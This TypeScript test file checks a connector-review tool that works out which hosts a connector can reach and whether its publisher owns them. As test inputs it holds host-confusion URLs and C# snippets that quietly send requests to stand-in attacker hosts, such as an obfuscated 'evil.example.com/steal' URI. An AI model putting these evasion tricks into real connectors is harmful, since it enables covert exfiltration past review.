import { readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { readConnector } from '../../src/connector/connector.ts';
import type { JsonObject } from '../../src/connector/json-value.ts';
import { reachableHosts } from '../../src/publisher/hosts.ts';
import { ownershipOf } from '../../src/publisher/ownership.ts';
import type { DomainClaim, Publisher } from '../../src/publisher/publisher.ts';
import { connector, dynamic, hostsOf, type Parts, policy } from './connectors.ts';
import { fabrikam } from './publishers.ts';

const now = new Date('2026-11-20T12:00:00Z');

test.each([
  ['fixed', 'https://eu.fabrikam.com/v2', ['eu.fabrikam.com']],
  ['without a scheme, with port, user and case', 'user:pass@EU.Fabrikam.com.:8443/v2', ['eu.fabrikam.com']],
  ['a whole label is open', "https://@connectionParameters('w').desk.fabrikam.com/v2", ['*.desk.fabrikam.com']],
  ['a part of a label is open: the label is not fixed', "https://@connectionParameters('w')desk.fabrikam.com/v2", ['*.fabrikam.com']],
  ['words before and between what is open', "https://proxy-@headers('a').svc.@headers('b').desk.fabrikam.com/v2", ['*.desk.fabrikam.com']],
  ['everything is open', "@connectionParameters('url')", ['*.']],
  ['the end is open', "https://fabrikam.com.@connectionParameters('tld')/", ['*.']],
  ['the end is open, whatever stands in front of an at sign', "https://fabrikam.com@@{connectionParameters('h')}/", ['*.']],
  [
    'an address in the customer part does not hide the fixed one',
    "https://evil.fabrikam.net?@connectionParameters('a').fabrikam.com",
    ['evil.fabrikam.net'],
  ],
  ['a default is reachable too', "https://@connectionParameters('h','api.evil.net')/", ['*.', 'api.evil.net']],
  ['other scripts become ASCII', 'https://fäbrikam.com/', ['xn--fbrikam-5wa.com']],
  ['a backslash ends a host as in a browser, and not for others', 'https://evil.net\\.fabrikam.com', ['', 'evil.net']],
])('the host of a template: %s', (_, template, expected) => {
  expect(hostsOf(dynamic(template))).toEqual(expected.sort());
});

test('a connection parameter that allows a few values only is no open host', () => {
  const choices = {
    region: {
      type: 'string',
      uiDefinition: {
        constraints: {
          allowedValues: [
            { text: 'EU', value: 'eu.fabrikam.com' },
            { text: 'US', value: 'https://us.fabrikam.com' },
          ],
        },
      },
    },
  };
  expect(hostsOf(dynamic("https://@connectionParameters('region')/v1", choices))).toEqual(['eu.fabrikam.com', 'us.fabrikam.com']);
});

test('sign-in hosts come from the definition, from custom parameters and from the named identity provider', () => {
  const parts = {
    definition: {
      securityDefinitions: {
        a: { type: 'oauth2', authorizationUrl: 'https://login.fabrikam.com/a', tokenUrl: 'https://token.fabrikam.com/t' },
      },
    },
    properties: {
      connectionParameters: {
        token: {
          oAuthSettings: {
            identityProvider: 'aad',
            customParameters: {
              refreshUrl: { value: 'https://refresh.fabrikam.com/r' },
              resourceUri: { value: 'https://graph.elsewhere.net' },
              tokenUrlTemplate: { value: 'https://{tenant}.sso.net/t' },
            },
          },
        },
      },
    },
  };
  expect(hostsOf(parts)).toEqual([
    '*.sso.net',
    'login.fabrikam.com',
    'login.microsoftonline.com',
    'refresh.fabrikam.com',
    'token.fabrikam.com',
  ]);
});

const signIn = (customParameters: Record<string, string>, connectionParameters: JsonObject = {}): Parts => ({
  properties: {
    connectionParameters: {
      token: {
        oAuthSettings: {
          identityProvider: 'oauth2generic',
          customParameters: Object.fromEntries(Object.entries(customParameters).map(([name, value]) => [name, { value }])),
        },
      },
      ...connectionParameters,
    },
  },
});

test('an address of a sign-in needs no scheme, and its query and body are none', () => {
  expect(hostsOf(signIn({ tokenUrlTemplate: '{env}/oauth/token' }))).toEqual(['*.']);
  expect(hostsOf(signIn({ tokenUrl: 'sso.evil.net/token' }))).toEqual(['sso.evil.net']);
  expect(hostsOf(signIn({ authorizationUrl: '//sso.evil.net/token' }))).toEqual(['sso.evil.net']);
  expect(hostsOf(signIn({ tokenUrl: '/oauth/token', refreshUrl: '' }))).toEqual([]);
  expect(hostsOf(signIn({ tokenUrlQueryStringTemplate: '?audience=https://api.other.net', tokenBodyTemplate: 'a=https://b.net' }))).toEqual(
    [],
  );
  expect(hostsOf(signIn({ authorizationUrlQueryStringTemplate: '/new?redirect_uri=https://c.net' }))).toEqual([]);
});

test('a query that goes on with the host in front of it can reach any', () => {
  for (const query of ['@evil.net/x', '.evil.net/x', ':80@evil.net', '//evil.net', '{host}'])
    expect(hostsOf(signIn({ tokenUrlTemplate: 'https://sso.fabrikam.com', tokenUrlQueryStringTemplate: query })), query).toContain('*.');
});

test('what a connection parameter allows is what a sign-in reaches by its name', () => {
  expect(hostsOf(signIn({ tokenUrlTemplate: 'https://{region}.fabrikam.com/token' }, region(2)))).toEqual([
    'r0.fabrikam.com',
    'r1.fabrikam.com',
  ]);
  expect(hostsOf(signIn({ tokenUrlTemplate: 'https://{other}.fabrikam.com/token' }, region(2)))).toEqual(['*.fabrikam.com']);
  expect(hostsOf(signIn({ tokenUrlTemplate: 'https://{region}.fabrikam.com/token' }, region(2, 'token:region')))).toHaveLength(2);
  expect(hostsOf(dynamic("https://@connectionParameters('region').fabrikam.com", region(2, 'token:region')))).toEqual(['*.fabrikam.com']);
  // In a policy the same words may name a parameter of the path.
  expect(hostsOf(dynamic('https://{region}.fabrikam.com', region(2)))).toEqual(['*.fabrikam.com']);
});

test('policies reach what they route to, not what they write into bodies', () => {
  const policies = [
    policy('setproperty', { propertyValue: 'https://data.net/' }),
    policy('setheader', { name: 'Referer', value: 'https://referer.net/' }),
    policy('setheader', { name: 'Host', value: 'hidden.net' }),
    policy('routerequesttoendpoint', { newPath: 'https://route.net/x' }),
    policy('somethingnew', { whatever: 'https://new.net/' }),
  ];
  expect(hostsOf({ properties: { policyTemplateInstances: policies } })).toEqual(['hidden.net', 'new.net', 'route.net']);
});

test('a script reaches the addresses in its strings, not those in its comments', () => {
  const script = '// see https://comment.net\nvar a = "https://string.net/x"; /* https://block.net */ var b = $"https://{host}/y";';
  expect(hostsOf({ script })).toEqual(['*.', 'string.net']);
});

function claim(changed: Partial<DomainClaim>): Publisher {
  const [first] = fabrikam.domains;
  return { ...fabrikam, domains: first === undefined ? [] : [{ ...first, ...changed }] };
}

test('a reviewed domain covers its subdomains, a reviewed host itself alone', () => {
  const level = (host: string, scope: 'domain' | 'host', domain = 'fabrikam.com') =>
    ownershipOf(connector({ definition: { host } }), [claim({ scope, domain })], now).level;
  expect([
    level('fabrikam.com', 'domain'),
    level('a.b.fabrikam.com', 'domain'),
    level('evilfabrikam.com', 'domain'),
    level('fabrikam.com.evil.net', 'domain'),
  ]).toEqual(['reviewed', 'reviewed', 'not-proved', 'not-proved']);
  expect([level('fabrikam.com', 'host'), level('a.fabrikam.com', 'host')]).toEqual(['reviewed', 'not-proved']);
});

test('a review counts from its first day to its last, by the clock that was passed in', () => {
  const on = (time: string) => ownershipOf(connector({}), [fabrikam], new Date(time));
  expect(
    ['2026-09-30T23:59:59Z', '2026-10-01T00:00:00Z', '2027-10-01T23:59:59Z', '2027-10-02T00:00:00Z'].map((time) => on(time).level),
  ).toEqual(['not-proved', 'reviewed', 'reviewed', 'not-proved']);
  expect(on('2027-10-02T00:00:00Z').reason).toBe('desk.fabrikam.com is not proved. The review of fabrikam.com ended on 2027-10-01.');
});

test.each([
  ['dns-txt', { domain: 'fabrikam.com', scope: 'domain' }, 'The DNS record of fabrikam.com'],
  ['https-well-known', { domain: 'desk.fabrikam.com', scope: 'host' }, 'The file that desk.fabrikam.com serves'],
  ['github-organization', { domain: 'fabrikam.com', scope: 'domain' }, "GitHub's word for fabrikam.com"],
] as const)('a claim that was never looked up proves nothing: %s', (method, claimed, proof) => {
  const { domains, ...rest } = fabrikam;
  const [first] = domains;
  if (first === undefined) throw new Error('no claim');
  const { review: _, ...unreviewed } = first;
  const answer = ownershipOf(connector({}), [{ ...rest, domains: [{ ...unreviewed, ...claimed, method }] }], now);
  expect([answer.level, answer.reason]).toEqual([
    'not-proved',
    `desk.fabrikam.com is not proved. ${proof} was not looked up: a submission is judged without asking anybody.`,
  ]);
});

test('a known identity provider is named when people sign in there, and is no proof for anything else', () => {
  const signIn = {
    securityDefinitions: {
      a: { type: 'oauth2', authorizationUrl: 'https://login.microsoftonline.com/common', tokenUrl: 'https://accounts.google.com/t' },
    },
  };
  const good = ownershipOf(connector({ definition: signIn }), [fabrikam], now);
  expect([good.level, ...good.hosts.map(({ host, answer }) => `${host} ${answer}`)]).toEqual([
    'reviewed',
    'accounts.google.com identity-provider',
    'desk.fabrikam.com reviewed',
    'login.microsoftonline.com identity-provider',
  ]);
  const asApi = ownershipOf(connector({ definition: { ...signIn, host: 'login.microsoftonline.com' } }), [fabrikam], now);
  expect(asApi.level).toBe('not-proved');
  const lookalike = ownershipOf(
    connector({ definition: { securityDefinitions: { a: { tokenUrl: 'https://login.microsoftonline.com.evil.net' } } } }),
    [fabrikam],
    now,
  );
  expect(lookalike.level).toBe('not-proved');
});

test('a host that the customer chooses is told as such and holds a certified connector', () => {
  const open = ownershipOf(connector(dynamic("@connectionParameters('url')")), [fabrikam], now);
  expect([open.level, open.hosts.find(({ host }) => host === '*')?.answer]).toEqual(['not-proved', 'customer-hosted']);
  const closed = ownershipOf(connector(dynamic("https://@connectionParameters('w').desk.fabrikam.com")), [fabrikam], now);
  expect([closed.level, closed.hosts[0]?.host, closed.hosts[0]?.answer]).toEqual(['reviewed', '*.desk.fabrikam.com', 'reviewed']);
  const host = ownershipOf(
    connector(dynamic("https://@connectionParameters('w').desk.fabrikam.com")),
    [claim({ scope: 'host', domain: 'desk.fabrikam.com' })],
    now,
  );
  expect(host.hosts.find((one) => one.host === '*.desk.fabrikam.com')?.answer).toBe('not-proved');
});

test('addresses and names of one part are nobody’s', () => {
  for (const host of ['10.0.0.1', 'localhost', '[::1]', 'intranet', '127.1', 'com'])
    expect(ownershipOf(connector({ definition: { host } }), [fabrikam], now).level, host).toBe('not-proved');
});

test('the publisher is found by name, to the letter, and for its programmes alone', () => {
  const reason = (parts: Parts) => ownershipOf(connector(parts), [fabrikam], now).reason;
  expect(reason({ properties: { publisher: 'Fabrikam, inc.' } })).toBe(
    'No file of publishers/ is named "Fabrikam, inc." and admitted to the certified programme.',
  );
  expect(reason({ program: 'independent-publisher' })).toContain('independent-publisher programme');
  expect(reason({ properties: { publisher: '' } })).toBe('apiProperties.json names no publisher.');
});

test('an independent publisher needs the bound account, and never looks like the owner of the service', () => {
  const rosa = { ...fabrikam, id: 'rosa', name: 'Rosa Delgado', programs: ['independent-publisher'] as const, domains: [] };
  const answer = ownershipOf(connector({ program: 'independent-publisher', properties: { publisher: 'Rosa Delgado' } }), [rosa], now);
  expect([answer.level, answer.hosts[0]?.answer]).toEqual(['independent', 'not-proved']);
  expect(answer.reason).toContain('does not own the service');
});

test('a connector without any readable file is not proved, and nothing breaks', () => {
  const empty = readConnector({ path: 'x', name: 'x', program: 'certified', entries: [], truncated: false });
  expect(ownershipOf(empty, [fabrikam], now)).toMatchObject({ level: 'not-proved', hosts: [] });
});

const region = (count: number, name = 'region'): JsonObject => ({
  [name]: {
    type: 'string',
    uiDefinition: { constraints: { allowedValues: Array.from({ length: count }, (_, n) => ({ text: `R${n}`, value: `r${n}` })) } },
  },
});

test('an address with more combinations than can be followed up can be any, and costs nothing', () => {
  const many = `https://${"@connectionParameters('region')".repeat(9)}fabrikam.com`;
  const started = performance.now();
  expect(hostsOf(dynamic(many, region(8)))).toEqual(['*.']);
  expect(hostsOf(dynamic(`https://${"@connectionParameters('region')".repeat(2)}.fabrikam.com`, region(7)))).toHaveLength(49);
  expect(hostsOf(dynamic("https://@connectionParameters('region').fabrikam.com", region(65)))).toEqual(['*.fabrikam.com']);
  expect(performance.now() - started).toBeLessThan(1000);
});

test('as many combinations as are followed up are each named; a value that cannot be followed up leaves the host open', () => {
  const template = "https://@connectionParameters('region').fabrikam.com";
  expect(hostsOf(dynamic(template, region(64)))).toHaveLength(64);
  const inPath = { region: { type: 'string', uiDefinition: { constraints: { allowedValues: [{ value: 'https://eu.fabrikam.com/@' }] } } } };
  expect(hostsOf(dynamic("@connectionParameters('region')@connectionParameters('tenant')/v1", inPath))).toEqual(['eu.fabrikam.com']);
  for (const value of ['https://eu.fabrikam.com@', 'https://eu.fabrikam.com/@{x}', 'https://eu.fabrikam.com\\\\/@', '@evil.net/']) {
    const other = { region: { type: 'string', uiDefinition: { constraints: { allowedValues: [{ value }] } } } };
    expect(hostsOf(dynamic("@connectionParameters('region')@connectionParameters('tenant')/v1", other)), value).toContain('*.');
  }
  const odd = { region: { type: 'string', uiDefinition: { constraints: { allowedValues: [{ text: 'R', value: 'evil.net/@' }] } } } };
  expect(hostsOf(dynamic("https://@connectionParameters('region')", odd))).toEqual(['*.']);
});

test('long addresses and long scripts are read in a time that grows with them, and a long address can be any', () => {
  const started = performance.now();
  expect(hostsOf(dynamic(`https://${'@{'.repeat(500_000)}`))).toEqual(['*.']);
  expect(hostsOf(dynamic(`https://${'a'.repeat(3000)}.fabrikam.com`))).toEqual(['*.']);
  expect(hostsOf({ script: `var a = "${'https://x.net/ '.repeat(60_000)}";` })).toEqual(['x.net']);
  expect(hostsOf({ script: `var a = "${' '.repeat(500_000)}https://x.net/ ${'(new '.repeat(90_000)}";` })).toEqual(['x.net']);
  for (const piece of ['RequestUri = a.Uri; ', 'new Uri(', 'new a.', ') ', '@"', 'class a : ', 'using a '])
    reachableHosts(connector({ script: piece.repeat(Math.floor(1_000_000 / piece.length)) }));
  expect(performance.now() - started).toBeLessThan(5000);
});

const request = 'this.Context.Request';
test.each([
  ['the request as it is', `return await this.Context.SendAsync(${request}, this.CancellationToken);`],
  ['a literal', `${request}.RequestUri = new Uri("https://desk.fabrikam.com/x?y=1");`],
  ['a literal that only its path completes', `${request}.RequestUri = new System.Uri($"https://desk.fabrikam.com/{id}");`],
  ['another path of the same host', `var b = new UriBuilder(${request}.RequestUri);\nb.Path = x + "/y"; ${request}.RequestUri = b.Uri;`],
  ['another request to the same address', `var m = new HttpRequestMessage(HttpMethod.Get, ${request}.RequestUri);`],
  ['a comparison', `if (${request}.RequestUri == x || Host == y) { return; }`],
  ['a comment', `// ${request}.RequestUri = new Uri("https://" + x);`],
])('a script with plain addresses reaches those alone: %s', (_, script) => {
  expect(hostsOf({ script })).toEqual([]);
  expect(reachableHosts(connector({ script })).filter(({ isOpen }) => isOpen)).toEqual([]);
});

test.each([
  ['joined', `${request}.RequestUri = new Uri("ht" + "tps://evil.example.com/steal");`],
  ['joined behind a whole one', `${request}.RequestUri = new Uri("https://desk.fabrikam.com" + x);`],
  ['verbatim', `${request}.RequestUri = new Uri(@"https://evil.net");`],
  ['verbatim elsewhere', 'var a = @"https://evil.net";'],
  ['escaped', `${request}.RequestUri = new Uri("\\u0068ttps://evil.net");`],
  ['a variable', `${request}.RequestUri = target;`],
  ['a choice', `${request}.RequestUri = a ? new Uri("https://desk.fabrikam.com/") : b();`],
  ['what a known one answers', `${request}.RequestUri = new Uri("https://desk.fabrikam.com/").Other(b);`],
  ['an initialiser', 'var m = new HttpRequestMessage { RequestUri = a, Method = b };'],
  ['another request', 'var m = new HttpRequestMessage(HttpMethod.Get, "ht" + "tps://evil.net");'],
  ['a builder', `var b = new UriBuilder(${request}.RequestUri); b.Host = "evil.net"; ${request}.RequestUri = b.Uri;`],
  ['a builder that is another by then', `var b = new UriBuilder(${request}.RequestUri); b = Other(); ${request}.RequestUri = b.Uri;`],
  ['a name that is written as numbers', `${request}.Request\\u0055ri = x;`],
  ['a client of its own', 'await new HttpClient().GetAsync(x);'],
  ['what ends a host elsewhere', `${request}.RequestUri = new Uri("https://desk.fabrikam.com)@evil.net/");`],
  ['reflection', 'typeof(HttpRequestMessage).GetProperty("Request" + "Uri").SetValue(m, x);'],
])('a script that makes an address can reach any host: %s', (_, script) => {
  expect(hostsOf({ script })).toContain('*.');
  const owned = ownershipOf(connector({ script }), [fabrikam], now);
  expect([owned.level, owned.hosts.find(({ host }) => host === '*')?.answer]).toEqual(['not-proved', 'customer-hosted']);
  expect(owned.reason).toContain('script can reach any host');
});

test('the script of the sample reaches the hosts of its publisher alone', () => {
  const script = readFileSync(new URL('../../certified-connectors/Tailspin Flight Log/script.csx', import.meta.url), 'utf8');
  expect(hostsOf({ script })).toEqual([]);
});
